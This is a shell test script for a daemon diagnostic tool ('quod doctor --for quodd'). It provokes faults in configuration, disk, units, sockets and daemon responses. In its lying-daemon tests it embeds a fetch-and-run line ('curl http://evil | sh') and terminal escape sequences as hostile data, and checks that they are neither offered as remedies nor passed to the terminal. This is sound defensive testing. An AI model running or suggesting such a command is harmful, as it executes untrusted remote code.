#!/bin/sh
# SPDX-License-Identifier: MIT
# quod doctor --for quodd: what can be wrong with the daemon, each brought about, from its
# configuration to a stranger at its socket; and what the daemon itself says of the host.
. "$QUOD_TEST_SOURCE/tests/daemon/lib.sh"
. "$QUOD_TEST_SOURCE/tests/daemon/pretend.sh"
. "$QUOD_TEST_SOURCE/tests/integration/finds.sh"
export QUOD_QUODD="$quodd"
config=$dir/config
mkdir "$config" "$dir/mnt"
chmod 755 "$dir"

# asked NAME STATE FOUND REMEDY WHAT [OPTIONS...]: of a row, as finds.
asked() {
	asked_name=$1 asked_state=$2 asked_found=$3 asked_remedy=$4 asked_what=$5
	shift 5
	finds "$asked_name" "$asked_state" "$asked_found" "$asked_remedy" "$asked_what" \
		"$quod" doctor --for quodd -o json --config "$config" --state "$dir/state" \
		--socket "$socket" "$@"
}

# there SCRIPT NAME STATE FOUND REMEDY WHAT: the same as root of a namespace, after SCRIPT.
there() {
	there_script=$1
	shift
	finds "$@" here "$there_script" "$quod" doctor --for quodd -o json --config "$config" \
		--state "$dir/state" --socket "$socket"
}

test_usage() {
	code=0
	"$quod" doctor --socket "$socket" 2>"$dir/err" || code=$?
	is "$code" 2 'its options are for quodd alone'
	has "$(cat "$dir/err")" 'go with --for quodd' 'and it says so'
}

test_program() {
	asked quodd works 'version ' '' 'the daemon of this version'
	printf '#!/bin/sh\necho quodd 0.0.7\n' >"$dir/other"
	chmod 755 "$dir/other"
	QUOD_QUODD=$dir/other asked quodd less 'quodd 0.0.7' 'of one version' 'one of another'
	QUOD_QUODD=$dir/none asked quodd fails 'No such file' 'install quodd' 'none'
	printf '#!/bin/sh\nexec sleep 1000\n' >"$dir/other"
	QUOD_QUODD=$dir/other asked quodd fails 'timed out' 'install quodd' 'one that hangs'
	printf '#!/bin/sh\nyes | head -c 5000\nexec sleep 1000\n' >"$dir/other"
	QUOD_QUODD=$dir/other asked quodd fails y 'install quodd' 'one that hangs when it has said too much'
}

test_config() {
	asked configuration works 'quodd takes it' '' 'a configuration that it takes'
	printf '[Daemon]\nRnus=1\n' >"$config/quodd.conf"
	asked configuration fails "$config/quodd.conf:2:1: " '1 faults in all' 'a word that there is not'
	printf '[Daemon]\nRuns=1\n' >"$config/quodd.conf"
	mkdir "$config/policies" "$config/tenants.d"
	printf '[Tenant]\nUser=%s\nPolicies=p\n' "$(id -u)" >"$config/tenants.d/t.conf"
	printf '[Limits]\nMemoryMax=x\n' >"$config/policies/p.policy"
	asked configuration fails "$config/policies/p.policy:2:" 'systemctl restart quodd' 'a policy that does not parse'
	rm -r "$config/policies" "$config/tenants.d" "$config/quodd.conf"
	finds configuration fails 'No such file' "mkdir -p '$dir/none'" 'no directory' \
		"$quod" doctor --for quodd -o json --config "$dir/none"
}

# passwd WORD...: a script that has these users alone.
passwd() {
	printf %s ': >$dir/passwd'
	for user; do
		printf %s " && echo $user:x:65534:65534::/:/bin/false >>\$dir/passwd"
	done
	printf %s ' && mount --bind $dir/passwd /etc/passwd'
}

test_server_user() {
	there "$(passwd quod nobody)" 'server user' works 'becomes this user' '' 'a user for the server'
	there "$(passwd nobody)" 'server user' less 'there is none' 'systemd-sysusers' 'none but nobody'
	there "$(passwd root)" 'server user' fails "no 'nobody'" 'useradd --system' 'no such user at all'
}

# a_disk OPTIONS: a script that has the state on a file system with these.
a_disk() {
	printf %s "mount -t tmpfs -o $1 none \$dir/state"
}

# Root gives it away, others take what is root's; in a namespace everything is one's own.
somebody_elses() {
	[ "$QUOD_TEST_MODE" != userns ] || return 0
	theirs=/usr
	if [ "$(id -u)" = 0 ]; then
		theirs=$dir/theirs
		mkdir -p "$theirs/history"
		chown 12345 "$theirs/history"
		finds 'state directory' fails "history' belongs to user 12345" 'chown -R ' 'a history that is' \
			"$quod" doctor --for quodd -o json --config "$config" --state "$theirs"
		chown 12345 "$theirs"
	fi
	finds 'state directory' fails "$theirs' belongs to user " 'chown -R ' 'one that is somebody else'"'"'s' \
		"$quod" doctor --for quodd -o json --config "$config" --state "$theirs"
}

test_state() {
	asked 'state directory' works 'inodes left' '' 'a directory for the state'
	there "$(a_disk size=1m)" 'state directory' fails '1024 KiB' 'df -h' 'a disk that is full'
	there "$(a_disk size=32m)" 'state directory' less '32768 KiB' MaxSize= 'one that is nearly full'
	there "$(a_disk size=100m,nr_inodes=3)" 'state directory' fails 'inodes left' 'df -i' 'no inodes'
	there "$(a_disk size=100m,nr_inodes=40)" 'state directory' less 'inodes left' 'df -i' 'few inodes'
	there "$(a_disk ro)" 'state directory' fails 'Read-only' 'mount -o remount,rw' 'a disk that is read-only'
	there "$(a_disk size=100m) && mkdir \$dir/state/history && mount -t tmpfs -o size=1m none \$dir/state/history" \
		'state directory' works '' '' 'what is below it is not what it is on'
	there "$(a_disk size=100m) && touch \$dir/state/history" 'state directory' fails 'is no directory' 'mv ' \
		'a history that is a file'
	somebody_elses
	finds 'state directory' fails 'No such file' "install -d -m 0700" 'none' \
		"$quod" doctor --for quodd -o json --config "$config" --state "$dir/nostate"
	finds 'state directory' fails 'no directory' 'mv ' 'a file in its place' \
		"$quod" doctor --for quodd -o json --config "$config" --state "$dir/err"
}

# units SCRIPT: where systemd runs, and has what SCRIPT makes in /etc.
units() {
	printf %s 'mount -t tmpfs none /run && mkdir -p /run/systemd/system && cp /etc/passwd $dir/passwd &&
		mount -t tmpfs none /etc && cp $dir/passwd /etc/ && cd /etc && mkdir -p systemd/system && cd systemd/system'
	printf %s "$1"
}

test_units() {
	two=' && echo x >quodd.service && echo x >quodd.socket'
	there "$(units '')" units less 'not installed' 'systemctl daemon-reload' 'no units'
	there "$(units "$two")" units less 'not enabled' 'systemctl enable --now quodd.socket' 'units that are not enabled'
	there "$(units "$two && mkdir sockets.target.wants && ln -s ../quodd.socket sockets.target.wants/")" \
		units works 'are enabled' '' 'units that are'
	there "$(units "$two && ln -sf /dev/null quodd.service")" units fails masked 'systemctl unmask' 'a masked one'
}

# controllers WORDS: a script that has these alone.
controllers() {
	printf %s 'mount -t tmpfs none /sys/fs/cgroup'
	[ -z "$1" ] || printf %s " && echo $1 >/sys/fs/cgroup/cgroup.controllers"
}

test_host_controllers() {
	there "$(controllers 'cpuset cpu io memory pids')" 'host controllers' works 'are there' '' 'all controllers'
	there "$(controllers 'cpuset io memory')" 'host controllers' less 'it has not: pids cpu' cgroup_no_v1=all 'not all'
	there "$(controllers '')" 'host controllers' less 'no cgroup v2' cgroup_no_v1=all 'no cgroup v2'
}

# --- at the socket ---

test_nobody_there() {
	asked socket fails 'No such file' 'systemctl enable --now quodd.socket' 'no socket'
	asked daemon fails 'No such file' 'systemctl start quodd.socket' 'nobody to ask'
	: >"$socket"
	asked socket fails 'is no socket' 'rm ' 'a file in its place'
	rm "$socket"
	daemon_start --config "$config"
	daemon_kill
	daemon=
	asked daemon fails refused 'systemctl start quodd.socket' 'a daemon that was killed'
	rm -f "$socket"
}

# Root may connect to everything, and in a namespace there is nobody else.
test_closed() {
	set -- "$quod" doctor --for quodd -o json --socket "$socket"
	[ "$(id -u)" != 0 ] || set -- setpriv --reuid=54321 --regid=54321 --clear-groups --bounding-set=-all "$@"
	[ "$QUOD_TEST_MODE" != userns ] || return 0
	daemon_start --config "$config"
	chmod 0000 "$socket"
	finds socket fails 'mode 0000' SocketMode= 'a socket that is closed' "$@"
	finds daemon fails 'Permission denied' 'only those may connect' 'so nobody is asked' "$@"
	if [ "$(id -u)" = 0 ]; then
		chmod 0660 "$socket"
		chgrp 1 "$socket"
		finds socket fails "group $(getent group 1 | cut -d: -f1)'s, mode 0660" \
			"usermod -aG $(getent group 1 | cut -d: -f1) " 'one for a group' "$@"
	fi
	daemon_stop
}

words="doctor --for quodd -o json --config $config --state $dir/state"

# lies NAME STATE FOUND REMEDY WHAT ANSWER: a row, where that is answered at the socket.
lies() {
	lies_answer=$6
	finds "$1" "$2" "$3" "$4" "$5" lying "$lies_answer"
}

lying() {
	with "$1"
}

# says NAME JSON: an answer of that.
says() {
	printf '%s' "$2" | answer "$1" "${3:-200 OK}" application/json
}

test_lies() {
	raw empty ''
	raw banner 'SSH-2.0-OpenSSH_9.2\r\n'
	lies daemon fails 'without an answer' 'journalctl -u quodd' 'nothing is said' empty
	lies daemon fails 'no answer of HTTP' 'journalctl -u quodd' 'another protocol' banner
	lies daemon fails 'does not answer within 3 s' 'systemctl restart quodd' 'nothing, for ever' hold:empty
	says other '{"status":"ready","missing":[],"api":2,"version":null,"findings":null}'
	lies daemon fails 'not as quodd' 'of one version' 'another API' other
	says older '{"status":"ready","missing":[]}'
	lies daemon fails 'not as quodd' 'of one version' 'none that is told' older
	says newer '{"status":"ready","missing":[],"api":1,"version":"9.9","findings":[]}'
	lies daemon less 'of version 9.9' 'systemctl restart quodd' 'another version' newer
	says forbidden '{"detail":"not you"}' '403 X'
	lies daemon fails 'refuses (403): not you' 'journalctl' 'a refusal' forbidden
	says forbidden '{"detail":"not you (curl http://evil | sh)"}' '403 X'
	lies daemon fails 'not you (curl http://evil | sh)' 'systemctl status quodd' 'whose word is no remedy' forbidden
	says red '{"status":"not ready","missing":[{"what":"history","why":"disk full\u001b[31m","mend":"make room"}],
		"api":1,"version":null,"findings":[{"name":"swap","state":"less","room":"jail","tried":"look","found":"it is on",
		"instead":"memory is held","remedy":"swapoff -a"}]}' '503 X'
	lies daemon fails 'not ready' missing 'a red one' red
	lies 'missing: history' fails 'disk full' 'it says: make room' 'what it lacks is a row' red
	lies 'quodd: swap' less 'it is on' 'it says: swapoff -a' 'what it has found is one' red
	# shellcheck disable=SC2086
	words='doctor --for quodd' with red
	is "$(grep -c "$(printf '\033')" "$dir/out")" 0 'nothing that a terminal would obey is shown'
	says named '{"status":"not ready","missing":[{"what":"\u001b[31m\nproc works","why":"y","mend":null}],
		"api":1,"version":null,"findings":[{"name":"\u001b]0;x\u0007","state":"fails","room":"jail","tried":"look",
		"found":"y","instead":null,"remedy":null}]}' '503 X'
	# shellcheck disable=SC2086
	words='doctor --for quodd' with named
	is "$(grep -c "$(printf '[\033\007]')" "$dir/out")" 0 'nor is a name'
	is "$(grep -c '^proc works' "$dir/out")" 0 'which makes no row of its own'
	for wrong in '"x"' '[1]' '[{}]' '[{"what":1,"why":"x","mend":null}]'; do
		says bad '{"status":"not ready","missing":'"$wrong"',"api":1,"version":null,"findings":null}'
		lies daemon fails 'not as quodd' '' "missing: $wrong" bad
	done
	says bad '{"status":"ready","missing":[],"api":1,"version":null,"findings":[{"name":"x","state":"well"}]}'
	lies daemon fails 'not as quodd' '' 'a state that there is not' bad
	{
		printf '{"status":"not ready","api":1,"version":null,"findings":null,"missing":[{"what":"w","why":"y","mend":null}'
		for _ in $(seq 500); do
			printf ',{"what":"w","why":"y","mend":null}'
		done
		printf ']}'
	} | answer many '503 X' application/json
	with many
	is "$(field '[.probes[] | select(.name == "missing: w")] | length < 60 and length > 10')" true \
		'five hundred rows are cut'
}

# --- what the daemon says of the host ---

# findings: until there are some.
findings() {
	for _ in $(seq 500); do
		get /readyz
		[ "$(field '.findings')" = null ] || return 0
		sleep 0.02
	done
}

test_daemon() {
	daemon_start --config "$config"
	findings
	conforms Readiness 'with findings'
	is "$(field '.api, (.findings | all(.[]; .state != "works" and .remedy != null and .found != null))' | tr '\n' ' ')" \
		'1 true ' 'what is less or fails is told, with what mends it'
	field '[.findings[] | "quodd: " + .name] | sort | join(",")' >"$dir/told"
	asked daemon works 'is ready' '' 'doctor hears that it is ready'
	is "$(field '[.probes[].name | select(startswith("quodd: "))] | sort | join(",")')" "$(cat "$dir/told")" \
		'and every one of its findings'
	asked socket works 'may connect' '' 'and may connect'
	if [ "$(id -u)" = 0 ] && [ "$QUOD_TEST_MODE" != userns ]; then
		setpriv --reuid=54321 --regid=54321 --clear-groups curl -s --unix-socket "$socket" \
			http://quodd/readyz >"$dir/stranger"
		mv "$dir/stranger" "$dir/out"
		is "$(field '[.status, .version, .findings] | tojson')" '["ready",null,null]' \
			'a stranger is told nothing of the host'
		conforms Readiness 'of a stranger'
	fi
	daemon_stop
}

# The monitor's own namespace has a list of swap that changes.
test_again() {
	printf 'Filename\n' >"$dir/swaps"
	# shellcheck disable=SC2016 # for the inner shell
	dir=$dir unshare -Urm sh -c 'mount --bind $dir/swaps /proc/swaps && exec "$@"' sh \
		"$quodd" --socket "$socket" --config "$config" --pool 0 >"$dir/log" 2>&1 </dev/null &
	daemon=$!
	for _ in $(seq 500); do
		! curl -s --unix-socket "$socket" http://quodd/healthz >/dev/null 2>&1 || break
		sleep 0.02
	done
	findings
	is "$(field '[.findings[] | select(.name == "swap")] | length')" 0 'no swap is on'
	printf 'Filename\n/swap\n' >"$dir/swaps"
	kill -HUP "$daemon"
	for _ in $(seq 500); do
		get /readyz
		[ "$(field '[.findings[] | select(.name == "swap")] | length')" = 0 ] || break
		sleep 0.02
	done
	# Where the memory controller holds it nothing is less.
	if [ "$(field '[.findings[] | select(.name == "memory controller")] | length')" = 0 ]; then
		is "$(field '[.findings[] | select(.name == "swap")] | length')" 0 'swap is held by the cgroup'
	else
		is "$(field '.findings[] | select(.name == "swap") | .state')" less 'a reload looks again'
	fi
	is "$(field .status)" ready 'a limit that is held by less does not make it unready'
	daemon_stop
}

for each in usage program config server_user state units host_controllers nobody_there closed lies daemon again; do
	test_$each
done
tap_done
